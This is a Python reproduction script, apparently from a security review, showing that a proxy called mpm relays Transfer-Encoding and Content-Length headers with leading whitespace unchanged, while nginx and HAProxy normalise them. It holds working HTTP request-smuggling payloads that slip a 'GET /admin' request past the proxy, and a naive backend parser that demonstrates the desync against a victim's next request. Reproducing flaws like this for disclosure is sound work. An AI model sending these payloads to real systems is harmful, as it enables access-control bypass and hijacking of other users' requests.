"""r03: mpm relays the request's framing bytes as the client wrote them where nginx and HAProxy
both re-emit a canonical form: a Transfer-Encoding value with leading OWS (`Transfer-Encoding:
\\tchunked`, `Transfer-Encoding:  chunked`), Content-Length with OWS or leading zeros, chunk-size
leading zeros and chunk extensions.  The first is the one that frames the body: mpm's own
`te_odd` normalisation (worker/http1.py:281, worker/rewrite.py:100), meant to send odd spellings
of chunked on "as the one every parser reads alike", catches `Chunked`, `chunked ` and
`,chunked` but not leading whitespace.

For each case the script prints the bytes the backend received from each proxy, then feeds mpm's
bytes to a deliberately naive backend parser that trims only spaces from field values (the class
of parser request-smuggling research targets) to show the two readings: no body, and the chunked
body bytes taken as the start of the next request on the shared backend connection.
Usage: /work/main/.venv/bin/python repro/r03_framing_fields_relayed_raw.py"""
import os, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _peers as peers

SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: a.test\r\nX: "
BODY = b"%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n"
CASES = {
    "TE tab":        b"POST /c HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding:\tchunked\r\n\r\n" + BODY,
    "TE space+tab":  b"POST /c HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: \tchunked\r\n\r\n" + BODY,
    "TE two spaces": b"POST /c HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding:  chunked\r\n\r\n" + BODY,
    "TE Chunked (normalised, for contrast)": b"POST /c HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: Chunked\r\n\r\n" + BODY,
    "CL tab 5 tab":  b"POST /c HTTP/1.1\r\nHost: a.test\r\nContent-Length:\t5\t\r\n\r\nhello",
    "CL 005":        b"POST /c HTTP/1.1\r\nHost: a.test\r\nContent-Length: 005\r\n\r\nhello",
    "chunk ext":     b'POST /c HTTP/1.1\r\nHost: a.test\r\nTransfer-Encoding: chunked\r\n\r\n0005;a="b\\"c"\r\nhello\r\n0;x=y\r\n\r\n',
}


def naive_requests(stream: bytes) -> list[bytes]:
    """Request lines a parser reads that trims only ' ' around values and compares TE to 'chunked'."""
    out = []
    while stream:
        i = stream.find(b"\r\n\r\n")
        if i < 0:
            out.append(b"(incomplete: " + stream[:40] + b")")
            break
        head, stream = stream[:i], stream[i + 4:]
        lines = head.split(b"\r\n")
        out.append(lines[0])
        fields = {k.strip(b" ").lower(): v.strip(b" ") for k, _, v in (l.partition(b":") for l in lines[1:])}
        if fields.get(b"transfer-encoding", b"").lower() == b"chunked":
            while True:
                j = stream.find(b"\r\n"); size = int(stream[:j].split(b";")[0], 16); stream = stream[j + 2:]
                if size == 0:
                    stream = stream[stream.find(b"\r\n") + 2:]; break
                stream = stream[size + 2:]
        elif fields.get(b"content-length"):
            stream = stream[int(fields[b"content-length"]):]
    return out


def main():
    got = {}
    for name, cls in peers.PEERS.items():
        def go(p, be):
            res = {}
            for k, data in CASES.items():
                t0 = time.monotonic()
                resp, _ = peers.exchange(p.port, data, idle=0.4)
                time.sleep(0.1)
                res[k] = (peers.statuses(resp), b"".join(be.since(t0).values()))
            return res
        got[name] = peers.run_with(cls, go)
    for k in CASES:
        print(f"\n=== {k}: client sent {CASES[k][:90]!r}...")
        for name in got:
            st, b = got[name][k]
            print(f"  {name:8s} status {st}\n           backend got {b!r}")
        if k.startswith("TE"):
            # mpm's bytes, followed by the next request another client sends on the pooled connection
            stream = got["mpm"][k][1] + b"GET /victim HTTP/1.1\r\nHost: a.test\r\n\r\n"
            print(f"  naive backend reading mpm's bytes (+ a next request on the pooled connection): {naive_requests(stream)}")


if __name__ == "__main__":
    main()
